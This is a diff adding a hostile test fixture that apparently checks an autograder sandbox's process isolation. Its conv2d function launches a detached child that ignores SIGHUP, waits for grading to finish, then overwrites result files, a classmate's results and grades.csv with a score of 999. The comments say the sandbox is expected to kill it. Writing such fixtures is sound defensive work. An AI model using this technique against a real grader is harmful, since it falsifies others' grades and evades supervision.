@@ -1,0 +1,46 @@
+# Hostile fixture (issue 11): leaves a detached child (new session, through _posixsubprocess)
+# that waits until the grader has finished and then rewrites its own results, a classmate's
+# results and grades.csv.
+# Expected: the child dies with the sandbox (bubblewrap: PID namespace + --die-with-parent; uid
+# mode: every process of the worker's uid is killed); nothing in the output folder changes after
+# the grader returns; conv2d earns 0 (it returns zeros).
+import os
+import sys
+
+import numpy as np
+
+OUT_DIR = "__OUT_DIR__"
+CHILD = f"""
+import glob, os, signal, time
+signal.signal(signal.SIGHUP, signal.SIG_IGN)
+time.sleep(1.5)
+for path in glob.glob("{OUT_DIR}/*.json") + ["{OUT_DIR}/grades.csv"]:
+    try:
+        open(path, "w").write('{{"score": 999, "tests": []}}')
+    except OSError:
+        pass
+open("{OUT_DIR}/pwned.txt", "w").write("late")
+"""
+
+
+def spawn(argv):
+    import _posixsubprocess
+
+    args = [os.fsencode(a) for a in argv]
+    r, w = os.pipe()
+    common = [args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True]
+    try:
+        pid = _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)
+    except TypeError:
+        pid = _posixsubprocess.fork_exec(*common, None, None, None, -1, None)
+    os.close(w)
+    os.read(r, 100)
+    return pid
+
+
+def conv2d(inputs, filters, strides, padding):
+    try:
+        spawn([sys.executable, "-c", CHILD])
+    except Exception:
+        pass
+    return np.zeros((1, 1, 1, 1))
